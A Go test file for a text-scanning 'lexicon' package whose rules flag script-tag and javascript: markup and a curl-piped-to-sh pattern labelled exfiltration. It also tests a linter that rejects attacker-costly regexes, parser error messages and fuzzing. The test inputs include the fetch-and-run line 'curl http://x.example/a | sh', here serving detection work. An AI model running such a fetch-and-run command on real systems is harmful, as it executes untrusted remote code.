package lexicon

import (
	"strings"
	"testing"
)

func parse(t testing.TB, src string) *Lexicon {
	t.Helper()
	l, err := Parse("l.txt", src)
	if err != nil {
		t.Fatal(err)
	}
	return l
}

const two = `# two rules
tag high 700 markup
  <script\b
  javascript:[a-z]
pipe medium 400 exfiltration
  near 40
  \bcurl\b
  \|\s?sh\b
`

// Proves SYN-2
func TestFind(t *testing.T) {
	l := parse(t, two)
	for _, c := range []struct{ text, want string }{
		{"see <SCRIPT src=x>", "tag[<SCRIPT]"},
		{"the scripts of the play", ""},
		{"javascript:alert and <script>", "tag[javascript:a] tag[<script]"},
		{"curl http://x.example/a | sh", "pipe[curl http://x.example/a | sh]"},
		{"curl is a tool. " + strings.Repeat("and so on ", 8) + "| sh", ""},
		{"run | sh then curl", "pipe[| sh then curl]"},
		{strings.Repeat("x ", 3000) + "<script>", "tag[<script]"},
		{strings.Repeat("x", 1020) + " <script>", "tag[<script]"},
		{"", ""},
	} {
		hits, err := l.Find(c.text)
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, h := range hits {
			got = append(got, l.Rules[h.Rule].ID+"["+c.text[h.Start:h.End]+"]")
		}
		if s := strings.Join(got, " "); s != c.want {
			t.Errorf("%.40q: got %s, want %s", c.text, s, c.want)
		}
	}
}

func TestHitsAreBounded(t *testing.T) {
	hits, err := parse(t, two).Find(strings.Repeat("<script>"+strings.Repeat(" ", 2000), 100))
	if err != nil || len(hits) > maxHits {
		t.Errorf("%d hits, %v", len(hits), err)
	}
}

// Patterns whose cost an attacker could choose are refused, and their nearest
// harmless relatives are not.
func TestLint(t *testing.T) {
	for _, p := range []string{
		`a.*b`, `a.{0,60}b`, `a[^x]*b`, `a[^<>]{0,9}b`, `(a.+)`, `(?s:a.?.*b)`, `\w{40}`, `[0-9a-f]{16,}`, `a{13}`, `(a+b)+`, `(a|b*)*`, `a*`, `x?`, `(^|a?)`, `a(b`,
	} {
		if Lint(p) == nil {
			t.Errorf("%s is accepted", p)
		}
	}
	for _, p := range []string{`a.b`, `a\s*b`, `a[a-z]{0,12}b`, `\d+`, `(^|\n)system:`, `a+b+`, `<(a|b)\s`, `[a-z0-9._/-]+\?`} {
		if err := Lint(p); err != nil {
			t.Error(err)
		}
	}
}

func TestMistakesNameTheirLine(t *testing.T) {
	for _, c := range []struct{ src, want string }{
		{"  abc", "l.txt:1: a pattern before"},
		{"a b", "l.txt:1: want"},
		{"a high 1001 f", "l.txt:1: the score"},
		{"a dire 1 f", "l.txt:1: unknown severity"},
		{"a high 1 f\n  near 4000\n  x", "l.txt:2: near wants"},
		{"a high 1 f\n  x\na high 1 f", "l.txt:3: rule a is defined twice"},
		{"a high 1 f\n\nb high 1 f\n  x", "l.txt:1: rule a has no pattern"},
		{"a high 1 f\n  x.*y", "l.txt:2: pattern"},
	} {
		if _, err := Parse("l.txt", c.src); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%q: got %v, want %s", c.src, err, c.want)
		}
	}
}

// What the set and the single expressions find together, the single ones find
// alone.
func FuzzFindAgainstSingleExpressions(f *testing.F) {
	l := parse(f, two)
	for _, s := range []string{"<script>", "curl | sh", "javascript:a", strings.Repeat("<", 3000) + "script>", "\xff<script "} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		hits, err := l.Find(text)
		if err != nil {
			t.Fatal(err)
		}
		for _, h := range hits {
			if h.Start < 0 || h.End > len(text) || h.Start >= h.End {
				t.Fatalf("hit %+v of %d bytes", h, len(text))
			}
		}
		for _, p := range l.Rules[0].parts {
			if m := p.re.FindStringIndex(text); m != nil && len(hits) == 0 {
				t.Fatalf("%q is not found in %q", text[m[0]:m[1]], text)
			}
		}
	})
}
